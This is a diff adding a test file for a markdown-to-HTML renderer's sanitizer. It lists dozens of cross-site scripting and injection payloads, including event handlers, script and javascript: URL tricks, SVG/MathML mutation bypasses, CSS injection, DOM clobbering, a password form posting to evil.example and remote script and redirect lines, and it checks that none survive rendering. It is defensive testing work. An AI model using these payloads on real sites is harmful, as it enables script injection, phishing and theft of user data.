@@ -1,0 +1,221 @@
+import { describe, expect, test } from 'vitest'
+import { markdownToHtml } from '../../../src/dialect/to-html.ts'
+import { dangers } from '../../support/danger.ts'
+import { treeHtml } from '../../support/dialect.ts'
+import { reactHtml } from '../../support/react-html.ts'
+
+const call = 'window.__evil=1'
+
+const payloads: Record<string, readonly string[]> = {
+  handlers: [
+    `<img src=x onerror=${call}>`,
+    `<img src="x"onerror="${call}">`,
+    `<IMG SRC=x OnErRoR=${call}>`,
+    `<b onmouseover='${call}'>hover</b>`,
+    `<details open ontoggle=${call}><summary>x</summary></details>`,
+    `<video src=x onloadstart=${call}></video>`,
+    `<a href="#" onfocus=${call} autofocus tabindex=1>x</a>`,
+    `<p on\nclick=${call}>x</p>`,
+    `<img/src=x/onerror=${call}>`,
+    `<img src=x onerror\u000b=${call}>`,
+    `<div onpointerenter=${call} style="width:100%">x</div>`,
+    `<td onclick=${call}>x`,
+  ],
+  scripts: [
+    `<script>${call}</script>`,
+    `<script src="//evil.example/x.js"></script>`,
+    `text <script>${call}</script> text`,
+    `<SCRIPT\t>${call}</SCRIPT >`,
+    `<scr<script>ipt>${call}</script>`,
+    `<script>\n\n${call}\n\n</script>`,
+    `<<script>${call}//<</script>`,
+    `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
+    `<template><script>${call}</script></template>`,
+    `<style><img src="</style><script>${call}</script>"></style>`,
+    `<script\n>${call}`,
+    `<!--><script>${call}</script>-->`,
+    `<!-- --!><script>${call}</script>`,
+    `<?xml version="1.0"?><script>${call}</script>`,
+    `<![CDATA[<script>${call}</script>]]>`,
+  ],
+  addresses: [
+    `[x](javascript:${call})`,
+    `[x](JaVaScRiPt:${call})`,
+    `[x](<java\tscript:${call}>)`,
+    `[x](&#106;avascript:${call})`,
+    `[x](javascript&colon;${call})`,
+    `[x](\\javascript:${call})`,
+    `[x](&#x1;javascript:${call})`,
+    `[x](&NewLine;javascript:${call})`,
+    `[x](vbscript:msgbox)`,
+    `[x](data:text/html;base64,PHNjcmlwdD4=)`,
+    `[x](file:///etc/passwd)`,
+    `[x](blob:https://a.example/1)`,
+    `![x](javascript:${call})`,
+    `![x](data:image/svg+xml,<svg/onload=${call}>)`,
+    `![x](javascript:${call} =1x1)`,
+    `![x|1x1](javascript:${call}#dark)`,
+    `![x][r]\n\n[r]: javascript:${call}#dark`,
+    `[x][r]\n\n[r]: javascript:${call}`,
+    `[x][]\n\n[x]: <data:text/html,x>`,
+    `<javascript:${call}>`,
+    `<a href="javascript:${call}">x</a>`,
+    `<a href=" &#14; javascript:${call}">x</a>`,
+    `<a href="jav&#x0A;ascript:${call}">x</a>`,
+    `<a href="jav&Tab;ascript:${call}">x</a>`,
+    `<a href="javascript&colon;${call}">x</a>`,
+    `<a href="javascript&#0000058${call}">x</a>`,
+    `<a href="https://a.example" href="javascript:${call}" ping="https://evil.example">x</a>`,
+    `<a href="javascript:${call}" href="https://a.example">x</a>`,
+    `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
+    `<img srcset="javascript:${call} 1x, x.png 2x" src=x>`,
+    `<picture><source srcset="data:image/png;base64,AA 1x"><img src=x></picture>`,
+    `<video poster="javascript:${call}" src="data:video/mp4,x"></video>`,
+    `<blockquote cite="javascript:${call}">x</blockquote>`,
+    `[x](a){href=javascript:${call}}`,
+    `[x](a){onclick=${call}}`,
+    `www.javascript:${call}`,
+  ],
+  'svg and math': [
+    `<svg onload=${call}></svg>`,
+    `<svg><script>${call}</script></svg>`,
+    `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
+    `<svg><animate onbegin=${call} attributeName=x></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id=x>"></use></svg>`,
+    `<svg><foreignObject><iframe src="javascript:${call}"></iframe></foreignObject></svg>`,
+    `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
+    `<math href="javascript:${call}">x</math>`,
+    `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+    `<svg/><img src=x onerror=${call}>`,
+  ],
+  styles: [
+    `<style>*{background:url(//evil.example)}</style>`,
+    `<b style="background:url(https://evil.example)">x</b>`,
+    `<b style="position:fixed;inset:0;z-index:9999">x</b>`,
+    `<b style="color:expression(${call})">x</b>`,
+    `<b style="color:red;back\\67round:url(x)">x</b>`,
+    `<b style="color:/**/red;/*;*/opacity:0">x</b>`,
+    `<b style="width:calc(1px*9999)">x</b>`,
+    `<b style="color:var(--x);--x:url(//evil.example)">x</b>`,
+    `<b style="display:block;transform:scale(99)">x</b>`,
+    `<p {style=color:red}>x</p>`,
+    `x {style="position:fixed"}`,
+    `<link rel=stylesheet href=//evil.example/x.css>`,
+  ],
+  forms: [
+    `<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
+    `<input type=image src=x onerror=${call}>`,
+    `<button formaction="javascript:${call}">x</button>`,
+    `<textarea autofocus onfocus=${call}></textarea>`,
+    `<select><option onclick=${call}>x</select>`,
+    `<isindex action="javascript:${call}" type=submit>`,
+    `<label for=x>x</label><keygen autofocus onfocus=${call}>`,
+    `<input type="checkbox" checked>`,
+  ],
+  'frames and others': [
+    `<iframe src="https://evil.example"></iframe>`,
+    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
+    `<iframe src="javascript:${call}"></iframe>`,
+    `<iframe src="https://player.bilibili.com.evil.example/player.html?x=1"></iframe>`,
+    `<iframe src="https://player.bilibili.com@evil.example/player.html?x=1"></iframe>`,
+    `<iframe src="http://www.youtube.com/embed/x"></iframe>`,
+    `<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>`,
+    `<iframe src="https://www.youtube.com/embed/../redirect?q=x"></iframe>`,
+    `<iframe src="//player.bilibili.com/player.html?bvid=1" onload=${call} srcdoc="x" name=app></iframe>`,
+    `<object data="javascript:${call}"></object>`,
+    `<embed src="javascript:${call}">`,
+    `<base href="https://evil.example/">`,
+    `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+    `<frameset><frame src="javascript:${call}"></frameset>`,
+    `<portal src="https://evil.example"></portal>`,
+    `<marquee onstart=${call}>x</marquee>`,
+    `<video autoplay src="https://evil.example/x.mp4"></video>`,
+    `<dialog open>covering</dialog>`,
+  ],
+  clobbering: [
+    `<a id=root></a>`,
+    `<b id="app--search">x</b>`,
+    `<a id=__proto__>x</a>`,
+    `<img src=x name=cookie id=cookie>`,
+    `<a id=module></a><a id=exports></a>`,
+    `<p id="documentElement">x</p>`,
+    `<a name=body>x</a>`,
+    `# Root {#root}`,
+    `x {#__proto__}`,
+    `::: tip {#app}\nx\n:::`,
+    `## Process {#process}`,
+    `<b data-evil=1 data-block="evil">x</b>`,
+    `<div data-block="evil"><pre>{}</pre></div>`,
+  ],
+  'mutation and confusion': [
+    `<p title="--></p><img src=x onerror=${call}>">x</p>`,
+    `<a title="\`" href="x">\`</a><img src=x onerror=${call}>`,
+    `<b title='"><img src=x onerror=${call}>'>x</b>`,
+    `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
+    `\`<img src=x onerror=${call}>\``,
+    `![<img src=x onerror=${call}>](x)`,
+    `![" onerror="${call}](x)`,
+    `[x](a "\\" onmouseover=\\"${call}")`,
+    `[x](<" onclick="${call}>)`,
+    `==<img src=x onerror=${call}>==`,
+    `^<img/src/onerror=${call}>^`,
+    `$$<img src=x onerror=${call}>$$`,
+    `$$\n</div><img src=x onerror=${call}>\n$$`,
+    `# <img src=x onerror=${call}> {#a"onclick="${call}}`,
+    `[^<img src=x onerror=${call}>]: x\n\na[^<img src=x onerror=${call}>]`,
+    `| <img src=x onerror=${call}> |\n| - |`,
+    `<table><tr><td><form><table><img src=x onerror=${call}>`,
+    `<p><details><p><svg><p><style><!--</style><img src=x onerror=${call}>--></style>`,
+    `<div${' '.repeat(50)}onclick=${call}\n>x</div>`,
+    `<a href="x\n\n" onclick=${call}>x</a>`,
+    `<p>&lt;img src=x onerror=${call}&gt;</p>`,
+    `<div>&amp;lt;script&amp;gt;</div>`,
+    `<x-evil onclick=${call}>x</x-evil>`,
+    `<Badge text="<img src=x onerror=${call}>" />`,
+    `::: tip <img src=x onerror=${call}>\nx\n:::`,
+    `\`\`\`js title="<img src=x onerror=${call}>"\nx\n\`\`\``,
+    `::: tabs#"><img/src/onerror=${call}>\n@tab "><script>${call}</script>\nx\n:::`,
+    `<Card title="x" href="javascript:${call}">x</Card>`,
+  ],
+}
+
+const rows = Object.entries(payloads).flatMap(([kind, list]) =>
+  list.map((payload) => [kind, payload] as const),
+)
+
+describe('hostile pages', () => {
+  test('[D10] there are more than sixty payloads', () => {
+    expect(rows.length).toBeGreaterThan(60)
+  })
+
+  test.each(rows)('[D10] %s: %s', { timeout: 30_000 }, (_kind, payload) => {
+    for (const page of [
+      payload,
+      `text\n\n${payload}\n\ntext`,
+      `- ${payload}`,
+      `<div>\n\n${payload}\n\n</div>`,
+    ]) {
+      expect(dangers(treeHtml(page))).toEqual([])
+      expect(dangers(markdownToHtml(page))).toEqual([])
+    }
+    expect(dangers(reactHtml(payload))).toEqual([])
+  })
+
+  test('[D10] the check itself finds every kind of danger', () => {
+    const evil = [
+      '<img src=x onerror=y>',
+      '<script></script>',
+      '<a href="java\nscript:x">',
+      '<b style="position:fixed">',
+      '<b style="color: url(x)">',
+      '<form></form>',
+      '<iframe sandbox src="https://evil.example"></iframe>',
+      '<iframe src="https://www.youtube.com/embed/x"></iframe>',
+      '<a id=root>',
+      '<a name=x>',
+      '<b data-block=evil>',
+      '<svg></svg>',
+    ]
+    for (const html of evil) expect(dangers(html)).not.toEqual([])
+  })
+})
